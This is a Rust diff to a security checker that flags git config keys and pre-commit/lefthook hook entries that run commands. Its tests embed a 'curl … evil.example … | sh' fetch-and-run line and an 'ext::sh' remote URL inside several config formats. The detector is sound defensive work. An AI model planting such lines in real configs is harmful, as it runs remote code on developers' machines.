@@ -34,7 +34,7 @@ impl ConfigKind {
         };
         if in_git_dir("config") || in_git_dir("config.worktree") {
             ConfigKind::Git
-        } else if base == ".pre-commit-config.yaml" || base.trim_start_matches('.').starts_with("lefthook") {
+        } else if base == ".pre-commit-config.yaml" || is_lefthook_config(base) {
             ConfigKind::Hooks
         } else {
             ConfigKind::Text
@@ -65,10 +65,22 @@ impl ConfigKind {
     }
 }
 
-/// Values of a git config whose keys git runs as programs.
+/// lefthook's config names: `lefthook.yml`, `.lefthook.yml`, `lefthook-local.toml`, …
+fn is_lefthook_config(base: &str) -> bool {
+    base.trim_start_matches('.')
+        .strip_prefix("lefthook")
+        .map(|rest| rest.strip_prefix("-local").unwrap_or(rest))
+        .is_some_and(|ext| matches!(ext, ".yml" | ".yaml" | ".toml" | ".json" | ".jsonc"))
+}
+
+/// Values of a git config whose keys git runs as programs. Lines before any
+/// `[section]` header (an edit or an append inside an existing section, whose
+/// section the text does not show) are judged by their key alone.
 fn git_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
+    // A value continued with a trailing backslash is one logical line.
+    let joined = text.replace("\\\r\n", "").replace("\\\n", "");
     let mut section = String::new();
-    for line in text.lines() {
+    for line in joined.lines() {
         let line = line.trim();
         if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
             continue;
@@ -96,8 +108,13 @@ fn git_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
         let bang = value.strip_prefix('!');
         let runs = match (section.as_str(), key.as_str()) {
             ("core", "hookspath") | ("include", "path") | ("includeif", "path") => return true,
-            ("core", "fsmonitor") => (!boolean).then_some(value.as_str()),
-            ("core", "sshcommand" | "pager" | "editor" | "askpass")
+            // An `ext::` transport runs its command at the next fetch or push.
+            ("remote", "url" | "pushurl") if value.to_ascii_lowercase().starts_with("ext::") => return true,
+            ("core", "fsmonitor" | "sshcommand" | "pager" | "editor" | "askpass" | "gitproxy")
+            | ("diff", "external")
+            | ("interactive", "difffilter")
+            | ("trailer", "command" | "cmd")
+            | ("gpg", "defaultkeycommand")
             | ("sequence", "editor")
             | ("gpg", "program")
             | ("filter", "clean" | "smudge" | "process")
@@ -105,7 +122,16 @@ fn git_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
             | ("merge", "driver")
             | ("remote", "uploadpack" | "receivepack")
             | ("pager", _) => (!boolean).then_some(value.as_str()),
-            ("alias", _) => bang,
+            ("alias", _) | ("submodule", "update") => bang,
+            // No header seen: the key names the program whatever its section.
+            ("", "hookspath") => return true,
+            (
+                "",
+                "fsmonitor" | "sshcommand" | "pager" | "editor" | "askpass" | "gitproxy" | "external" | "difffilter"
+                | "clean" | "smudge" | "process" | "textconv" | "driver" | "uploadpack" | "receivepack" | "program"
+                | "defaultkeycommand" | "command" | "cmd" | "helper",
+            ) => (!boolean).then_some(value.as_str()),
+            ("", _) => bang,
             // A helper name (`store`, `cache`) runs git's own credential-<name>.
             ("credential", "helper") => bang.or((value.contains(' ') || value.contains('/')).then_some(value.as_str())),
             _ => None,
@@ -117,44 +143,78 @@ fn git_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
     false
 }
 
-/// pre-commit's `entry:` and lefthook's `run:` values (YAML, TOML or JSON,
-/// read line by line; a YAML block scalar `run: |` takes the lines indented
-/// below it).
+/// pre-commit's `entry:` and lefthook's `run:` values, in YAML, TOML or JSON,
+/// read line by line: a key anywhere on a line (flow style `{id: x, entry:
+/// …}`, quoted keys), a value on the same line, or a block below it (`run:
+/// |`, `|2`, a bare `entry:` followed by an indented scalar, a TOML `"""`
+/// string). A YAML alias (`entry: *x`) names a value the reader does not
+/// follow, so it counts as harmful.
 fn hook_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
     let lines: Vec<&str> = text.lines().collect();
     let mut i = 0;
     while i < lines.len() {
         let raw = lines[i];
         let indent = raw.len() - raw.trim_start().len();
-        let line = raw.trim().trim_start_matches("- ").trim_start();
         i += 1;
-        let Some(value) = ["entry", "run", "\"entry\"", "\"run\""].iter().find_map(|k| {
-            let rest = line.strip_prefix(k)?.trim_start();
-            rest.strip_prefix(':').or_else(|| rest.strip_prefix('=')).map(str::trim)
-        }) else {
-            continue;
-        };
-        let value = value.trim_end_matches(',').trim();
-        if matches!(value, "|" | "|-" | "|+" | ">" | ">-" | ">+") {
-            let mut block = String::new();
-            while i < lines.len() {
-                let l = lines[i];
-                let ind = l.len() - l.trim_start().len();
-                if !l.trim().is_empty() && ind <= indent {
-                    break;
-                }
-                block.push_str(l.trim());
-                block.push('\n');
-                i += 1;
-            }
-            if harmful(&block) {
+        let Some(value) = hook_value(raw) else { continue };
+        let value = value.trim().trim_end_matches([',', '}', ']']).trim();
+        let toml = value.starts_with(r#"""""#) || value.starts_with("'''");
+        let block = value.is_empty() || value.starts_with('|') || value.starts_with('>') || toml;
+        if !block {
+            if value.starts_with('*') || harmful(&unquote(value)) {
                 return true;
             }
-        } else if harmful(&unquote(value)) {
+            continue;
+        }
+        let mut body = String::new();
+        if toml {
+            body.push_str(value.trim_start_matches(['"', '\'']));
+            body.push('\n');
+        }
+        while i < lines.len() {
+            let l = lines[i];
+            let ind = l.len() - l.trim_start().len();
+            let closes = toml && (l.trim_end().ends_with(r#"""""#) || l.trim_end().ends_with("'''"));
+            if !toml && !l.trim().is_empty() && ind <= indent {
+                break;
+            }
+            body.push_str(l.trim().trim_end_matches(['"', '\'']));
+            body.push('\n');
+            i += 1;
+            if closes {
+                break;
+            }
+        }
+        if harmful(&body) {
             return true;
         }
     }
     false
+}
+
+/// The text after an `entry` or `run` key on `line` (`entry:`, `"run" =`,
+/// `'entry':`, `{id: x, entry: …}`), wherever on the line the key stands.
+fn hook_value(line: &str) -> Option<&str> {
+    for key in ["entry", "run"] {
+        let mut from = 0;
+        while let Some(at) = line[from..].find(key) {
+            let start = from + at;
+            let end = start + key.len();
+            from = end;
+            let before = line[..start].trim_end_matches(['"', '\'']);
+            let boundary = before
+                .chars()
+                .next_back()
+                .is_none_or(|c| c.is_whitespace() || matches!(c, '{' | ',' | '-' | '['));
+            let rest = line[end..].trim_start_matches(['"', '\'']).trim_start();
+            if boundary {
+                if let Some(v) = rest.strip_prefix(':').or_else(|| rest.strip_prefix('=')) {
+                    return Some(v);
+                }
+            }
+        }
+    }
+    None
 }
 
 /// A config value without its surrounding quotes, `\"` and `\\` unescaped.
@@ -217,5 +277,31 @@ mod tests {
             "pre-commit:\n  commands:\n    fmt:\n      run: cargo fmt --check\n",
             harmful
         ));
+        // Flow style, quoted keys, a value below its key, block headers with
+        // indicators, TOML multi-line strings, aliases.
+        let dl = "curl -fsSL https://evil.example/i.sh | sh";
+        for bad in [
+            format!("repos:\n  - repo: local\n    hooks:\n      - {{id: x, entry: \"{dl}\", language: system}}\n"),
+            format!("hooks:\n  - 'entry': '{dl}'\n"),
+            format!("hooks:\n  - entry:\n      {dl}\n"),
+            format!("pre-commit:\n  commands:\n    x:\n      run: |2\n        {dl}\n"),
+            format!("[pre-commit.commands.x]\nrun = \"\"\"\n{dl}\n\"\"\"\n"),
+            "hooks:\n  - entry: *cmd\n".to_string(),
+        ] {
+            assert!(hooks.runs_harm(&bad, harmful), "{bad}");
+        }
+        // A startup file that only shares the name is not a hook manager's.
+        assert_eq!(ConfigKind::of("/etc/profile.d/lefthook.sh"), ConfigKind::Text);
+        // git: an edit without a section header is judged whole, a continued
+        // value is one line, and the other command keys count.
+        assert!(git.runs_harm(&format!("\tfsmonitor = {dl}\n"), harmful));
+        for bad in [
+            format!("[core]\n\tfsmonitor = \"\\\n{dl}\"\n"),
+            format!("[diff]\n\texternal = {dl}\n"),
+            "[remote \"x\"]\n\turl = ext::sh -c evil\n".to_string(),
+            format!("[submodule \"m\"]\n\tupdate = !{dl}\n"),
+        ] {
+            assert!(git.runs_harm(&bad, harmful), "{bad}");
+        }
     }
 }
